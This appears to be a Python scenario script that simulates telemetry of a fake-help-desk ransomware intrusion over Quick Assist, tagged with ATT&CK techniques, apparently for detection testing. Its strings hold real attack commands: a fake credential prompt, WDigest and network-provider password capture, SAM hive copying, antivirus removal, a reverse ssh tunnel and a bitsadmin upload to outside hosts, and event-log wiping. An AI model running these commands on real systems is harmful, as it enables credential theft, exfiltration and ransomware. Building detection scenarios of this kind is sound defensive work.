"""A false help desk over Quick Assist: a script starts a virtual machine as a way in, passwords are asked for and caught,
the sensor goes, and a share is encrypted from this machine. Resembles the 3AM and Storm-1811 intrusions of 2024-2025."""
import deeds
from scenery import Desktop

SETTING = {"start": "2025-05-08T13:22:50", "user": "MERIDIAN\\t.okafor", "home": "C:\\Users\\t.okafor",
           "computer": "MER-LT-044", "os_version": (10, 0, 22631), "local_address": "10.20.4.77"}
ASSIST = (r"C:\Program Files\WindowsApps\MicrosoftCorporationII.QuickAssist_2.0.34.0_x64__8wekyb3d8bbwe"
          r"\Microsoft.RemoteAssistance.QuickAssist\QuickAssist.exe")
PACK = r"C:\ProgramData\UpdatePackage_excic"
ADMINISTRATOR = {"user": "MERIDIAN\\adm-okafor", "integrity": "High", "sid": "S-1-5-21-3012284711-915120033-1190273305-1644"}
CONSOLE, TUNNEL, DROP_SITE = ("203.0.113.90", 443), ("198.51.100.66", 443), ("198.51.100.71", 80)
TASK = r"Microsoft\Windows\SettingSync\SshSync"
SERVER = ("10.20.4.12", 445)
PAPERS = ["Budget 2025.xlsx", "Payroll April.xlsx", "Lease.pdf", "Board minutes.docx", "Vendors.csv", "Audit.pdf",
          "Tax.docx", "Forecast.xlsx", "Loans.pdf", "Ledger.accdb"]


def let_in(c, desktop):
    c.host("198.51.100.12", "remoteassistance.support.services.microsoft.com")
    assist = c.spawn(desktop.explorer, ASSIST, '"%s"' % ASSIST, description="Quick Assist", **deeds.MICROSOFT)
    c.exchange(assist, ("198.51.100.12", 443), 50610, [517, 900, 4000, 9000], [1460] * 5)
    desktop.murmur(4)
    script = PACK + r"\Update.vbs"
    host = deeds.tool(c, desktop.explorer, '"C:\\Windows\\System32\\WScript.exe" "%s" ' % script, directory=PACK + "\\")
    c.read(host, script, 700)
    with deeds.told(c, "starts a virtual machine without a window from ProgramData", "high", "T1564.006", host,
                    ("qcow2", "wexe.exe", "-nographic")) as helpers:
        line = (r'"%s\wexe.exe" -L . -m 4096 -hda Update_excic.qcow2 -netdev user,id=mynet0 '
                r"-device e1000,netdev=mynet0 -nographic") % PACK
        machine = c.spawn(host, PACK + r"\wexe.exe", line, directory=PACK + "\\")
        for name in ("libglib-2.0-0.dll", "libslirp-0.dll", "zlib1.dll"):
            c.load(machine, PACK + "\\" + name)
        c.open(machine, PACK + r"\Update_excic.qcow2", 0x12019F)
        for number in range(8):
            c.write_at(machine, PACK + r"\Update_excic.qcow2", 4_194_304 + number * 65_536, 65_536)
        helpers.append(machine)
    c.exit(host)
    with c.behaviour("the virtual machine holds a channel to a server outside", "medium",
                     ("T1090", "T1572", "T1071.001", "T1573"), (host, machine), CONSOLE[0]):
        for number in range(4):
            c.exchange(machine, CONSOLE, 50620 + number, [120, 4200], [300, 2800])
            c.wait(10)
    return host, machine


def catch_passwords(c, desktop, shell):
    with deeds.told(c, "asks the user for the password and keeps the answer in a file", "high", ("T1056.002", "T1059.001"),
                    shell, ("PromptForCredential", "spamcfg.txt")) as helpers:
        line = ("powershell -c \"$c=$Host.UI.PromptForCredential('Spam filter update','Sign in to apply',$env:USERNAME,'');"
                "$c.GetNetworkCredential()|fl UserName,Password|Out-File C:\\ProgramData\\spamcfg.txt\"")
        power = deeds.tool(c, shell, line)
        c.load(power, r"C:\Windows\System32\credui.dll")
        c.wait(20)
        c.drop(power, r"C:\ProgramData\spamcfg.txt", 190)
        c.exit(power)
        helpers.append(power)
    with deeds.told(c, "asks for the domain's controllers and trusts", "medium", ("T1482", "T1018"), shell,
                    "nltest") as helpers:
        helpers += deeds.command(c, shell, "nltest /dclist:meridian.example", shell=False)
        helpers += deeds.command(c, shell, "nltest /domain_trusts", shell=False)
    deeds.command(c, shell, "ipconfig /all", shell=False)
    high = deeds.tool(c, shell, "cmd.exe", **ADMINISTRATOR)
    provider = deeds.SERVICES + "\\wlsync\\NetworkProvider"
    order = r"HKLM\System\CurrentControlSet\Control\NetworkProvider\Order"
    with deeds.told(c, "a network provider of its own gets each password at log-on", "high", ("T1556.008", "T1112"),
                    (shell, high), ("wlsync", "ProviderOrder")) as helpers:
        c.drop(high, r"C:\Windows\System32\wlsync.dll", 21_000)
        for key, value, kind, data in (
                (provider, "Class", "REG_DWORD", 2),
                (provider, "ProviderPath", "REG_EXPAND_SZ", r"%SystemRoot%\System32\wlsync.dll"),
                (order, "ProviderOrder", "REG_SZ", "RDPNP,LanmanWorkstation,webclient,wlsync")):
            reg = deeds.tool(c, high, 'reg add "%s" /v %s /t %s /d "%s" /f' % (key, value, kind, data))
            c.key(reg, key, new=key == provider)
            c.set_value(reg, key + "\\" + value, kind, data)
            c.exit(reg)
            helpers.append(reg)
    digest = r"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest"
    with deeds.told(c, "has Windows keep clear passwords in memory", "high", ("T1112", "T1003.001", "T1685"), (shell, high),
                    "UseLogonCredential") as helpers:
        reg = deeds.tool(c, high, 'reg add "%s" /v UseLogonCredential /t REG_DWORD /d 1 /f' % digest)
        c.set_value(reg, digest + r"\UseLogonCredential", "REG_DWORD", 1)
        c.exit(reg)
        helpers.append(reg)
    return high


def copy_hives(c, doers):
    high = doers[-1]
    with deeds.told(c, "copies the hives of accounts out of a shadow copy", "high", "T1003.002", doers,
                    ("config\\SAM", "config\\SYSTEM", "esentutl")) as helpers:
        for hive in ("SAM", "SYSTEM"):
            source = "C:\\Windows\\System32\\config\\" + hive
            tool = deeds.tool(c, high, r"esentutl.exe /y /vss %s /d D:\Scans\%s.tmp" % (source, hive[:2].lower()))
            c.load(tool, r"C:\Windows\System32\vssapi.dll")
            c.read(tool, r"\Device\HarddiskVolumeShadowCopy4\Windows\System32\config" + "\\" + hive, 131_072)
            c.drop(tool, r"D:\Scans\%s.tmp" % hive[:2].lower(), 131_072)
            c.exit(tool)
            helpers.append(tool)


def end_sensor(c, desktop, doers):
    high = doers[-1]
    line = "wmic product where \"name like '%%Sophos Endpoint%%'\" call uninstall /nointeractive"
    with deeds.told(c, "removes the antivirus by WMI", "high", ("T1685", "T1047"), doers,
                    ("Sophos", "uninstall")) as helpers:
        helpers.append(deeds.tool(c, high, line))
        host = c.system(r"C:\Windows\System32\wbem\WmiPrvSE.exe", parent=desktop.services)
        c.load(host, r"C:\Windows\System32\msi.dll")
        installer = c.system(r"C:\Windows\System32\msiexec.exe", r"C:\Windows\system32\msiexec.exe /V",
                             parent=desktop.services)
        for name in ("SophosUI.exe", "SEDService.exe"):
            c.delete(installer, r"C:\Program Files\Sophos\Endpoint Defense" + "\\" + name)
        c.delete_key(installer, deeds.SERVICES + "\\Sophos Endpoint Defense Service")
        c.exit(helpers[0])


def dig(c, desktop, doers):
    high = doers[-1]
    ssh = r"C:\Windows\System32\OpenSSH\ssh.exe"
    line = (r"%s -N -R 4444 -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -i C:\ProgramData\ssh\k "
            r"-p 443 tun@198.51.100.66") % ssh
    with deeds.told(c, "a task of SYSTEM for a tunnel of ssh", "high", "T1053.005", doers,
                    ("SshSync", "ssh.exe")) as helpers:
        create = 'schtasks /Create /TN "%s" /SC MINUTE /MO 30 /RU SYSTEM /F /TR "%s"' % (TASK, line)
        helpers += deeds.command(c, high, create, shell=False)
        deeds.task(c, desktop, TASK, 19)
        helpers += deeds.command(c, high, "schtasks /Run /TN " + TASK, shell=False)
    with deeds.told(c, "a tunnel back from a server outside", "high", ("T1572", "T1021.004"), doers,
                    ("ssh", TUNNEL[0])) as helpers:
        tunnel = c.spawn(desktop.scheduler, ssh, line, **deeds.MICROSOFT)
        c.net(tunnel, "Connect", TUNNEL, 50660)
        for length in (41, 1480, 1200, 640, 64, 64):
            c.net(tunnel, "Send", TUNNEL, 50660, length)
            c.net(tunnel, "Receive", TUNNEL, 50660, length + 40)
            c.wait(6)
        helpers.append(tunnel)


def move(c, doers):
    high = doers[-1]
    with deeds.told(c, "has another server run a command by WMI", "high", "T1047", doers, ("SRV-FS02", "/node")) as helpers:
        tool = deeds.tool(c, high, 'wmic /node:"SRV-FS02" /user:MERIDIAN\\adm-okafor process call create '
                          '"cmd /c netsh advfirewall firewall set rule group=\\"remote desktop\\" new enable=yes"')
        c.exchange(tool, ("10.20.4.12", 135), 50670, [116, 300], [84, 200])
        c.exit(tool)
        helpers.append(tool)
    with c.behaviour("copies its program to another server's administrative share", "high", ("T1021.002", "T1570"), doers,
                     ("ADMIN$", "SRV-FS02")):
        c.read(high, PACK + r"\L.exe", 410_000)
        c.drop(high, r"\\SRV-FS02\ADMIN$\Temp\L.exe", 410_000)


def take_and_encrypt(c, desktop, doers):
    high = doers[-1]
    bits = c.system(r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS",
                    parent=desktop.services)
    with deeds.told(c, "has BITS send an archive away", "high", ("T1197", "T1048", "T1048.003", "T1567"), doers,
                    ("bitsadmin", "fin.7z", "/upload")) as helpers:
        line = r"bitsadmin /transfer nightly /upload /priority high http://198.51.100.71/u/fin.7z D:\Scans\fin.7z"
        helpers += deeds.command(c, high, line, shell=False)
        c.read(bits, r"D:\Scans\fin.7z", 1_400_000, chunk=131_072)
        c.exchange(bits, DROP_SITE, 50680, [410] + [65_536] * 14, [120])
    locker = c.spawn(high, PACK + r"\L.exe", r"%s\L.exe -k 5e1c9f02 -s 10 -m net -p \\SRV-FS02\Finance" % PACK)
    deeds.begin(c, locker)
    with c.behaviour("encrypts a file server's share over the network", "critical", "T1486", doers + (locker,),
                     (".threeamtime", "SRV-FS02\\Finance")):
        c.net(locker, "Connect", SERVER, 50690)
        for name in PAPERS:
            path = "\\\\SRV-FS02\\Finance\\" + name
            c.read(locker, path, 65_536)
            c.open(locker, path, 0x12019F)
            c.write_at(locker, path, 0, 65_536)
            c.close(locker, path)
            c.rename(locker, path, path + ".threeamtime")
        c.drop(locker, r"\\SRV-FS02\Finance\RECOVER-FILES.txt", 2600)
    c.exit(locker)
    with deeds.told(c, "clears every event log", "high", ("T1685.005", "T1070"), doers, "wevtutil") as helpers:
        loop = deeds.tool(c, high, 'cmd.exe /c for /F "tokens=*" %1 in (\'wevtutil.exe el\') DO wevtutil.exe cl "%1"')
        for line in ("wevtutil.exe el", 'wevtutil.exe cl "Application"', 'wevtutil.exe cl "Security"',
                     'wevtutil.exe cl "System"'):
            helpers += deeds.command(c, loop, line, shell=False)
        c.exit(loop)
        helpers.append(loop)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(6)
    host, machine = let_in(c, desktop)
    shell = deeds.tool(c, desktop.explorer, '"C:\\Windows\\system32\\cmd.exe" ', directory=c.home + "\\")
    high = catch_passwords(c, desktop, shell)
    doers = (host, machine, shell, high)
    copy_hives(c, doers)
    end_sensor(c, desktop, doers)
    desktop.murmur(3)
    dig(c, desktop, doers)
    move(c, doers)
    take_and_encrypt(c, desktop, doers)
    desktop.murmur(4)
